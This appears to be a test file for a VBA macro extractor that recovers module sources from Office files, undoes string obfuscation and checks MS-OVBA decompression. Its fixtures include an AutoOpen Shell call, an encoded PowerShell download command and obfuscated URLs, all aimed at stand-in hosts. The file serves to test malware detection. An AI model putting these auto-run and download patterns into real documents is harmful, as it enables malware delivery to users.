"""Macros: sources by the project's directory, in its code page, and without a directory; the compiled form too."""

import base64

import pytest
from office_files import read_ole, spot_of, texts, vba_literal, vba_project, word_97

from tqimap.documents.office.vba import decompress

SOURCE = (
    b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\nShell "http://" & _\r\n "macro.example.net/a"\r\nEnd Sub\r\n'
)


@pytest.mark.parametrize("where", [(), ("Macros",), ("_VBA_PROJECT_CUR",)], ids=["project", "Word", "Excel"])
def test_the_source_of_each_module_is_told_by_its_name(where: tuple[str, ...]) -> None:
    project = vba_project({"Module1": SOURCE})
    tree = {**word_97("x"), where[0]: project} if where else project
    found = read_ole(tree)
    assert spot_of(found, "Sub AutoOpen()") == "VBA Module1"
    assert spot_of(found, '"http://macro.example.net/a"') == "VBA Module1, strings joined"
    assert "http://in-p-code.example.net/" in texts(found)


def test_an_encoded_command_is_decoded() -> None:
    command = base64.b64encode("iwr https://x.example/a".encode("utf-16-le"))
    source = b'Attribute VB_Name = "M"\r\nShell "powershell -enc " & "' + command[:20] + b'" & "' + command[20:] + b'"'
    found = read_ole(vba_project({"Module1": source}))
    assert spot_of(found, "iwr https://x.example/a") == "VBA Module1, decoded"


@pytest.mark.parametrize(
    "code",
    [
        b'StrReverse("a/elpmaxe.x//:sptth")',
        b'Chr(104) & Chr(116) & "tps://x.example/a"',
        b'Decode("' + base64.b64encode(b"https://x.example/a") + b'")',
        b'Replace("https://x.QQexample/a", "QQ", "")',
    ],
)
def test_simple_disguises_are_undone(code: bytes) -> None:
    found = read_ole(vba_project({"Module1": b'Attribute VB_Name = "M"\r\nx = ' + code}))
    assert spot_of(found, "https://x.example/a") == "VBA Module1, decoded"


def test_the_source_is_in_the_code_page_of_the_project() -> None:
    source = 'Attribute VB_Name = "M"\r\nMsgBox "Привет"'.encode("cp1251")
    assert 'MsgBox "Привет"' in texts(read_ole(vba_project({"M": source}, 1251)))


def test_a_source_is_found_without_a_directory_that_can_be_read() -> None:
    tree = {"VBA": {"dir": b"\xff\xff", "Module1": bytes(50) + vba_literal(SOURCE)}}
    assert "Sub AutoOpen()" in texts(read_ole(tree))


@pytest.mark.parametrize(
    ("packed", "clear"),
    [
        # the three examples of MS-OVBA 3.2
        (
            "01 19 B0 00 61 62 63 64 65 66 67 68 00 69 6A 6B 6C 6D 6E 6F 70 00 71 72 73 74 75 76 2E",
            b"abcdefghijklmnopqrstuv.",
        ),
        (
            "01 2F B0 00 23 61 61 61 62 63 64 65 82 66 00 70 61 67 68 69 6A 01 38 08 61 6B 6C 00 30 6D 6E 6F 70 06 71"
            " 02 70 04 10 72 73 74 75 76 10 77 78 79 7A 00 3C",
            b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa",
        ),
        ("01 03 B0 02 61 45 00", b"a" * 73),
        ("", b""),
        ("02 03 B0", b""),
        ("01 03 B0 02 61 FF FF", b"a"),  # a copy from before the beginning
    ],
)
def test_decompression(packed: str, clear: bytes) -> None:
    assert decompress(bytes.fromhex(packed)) == clear
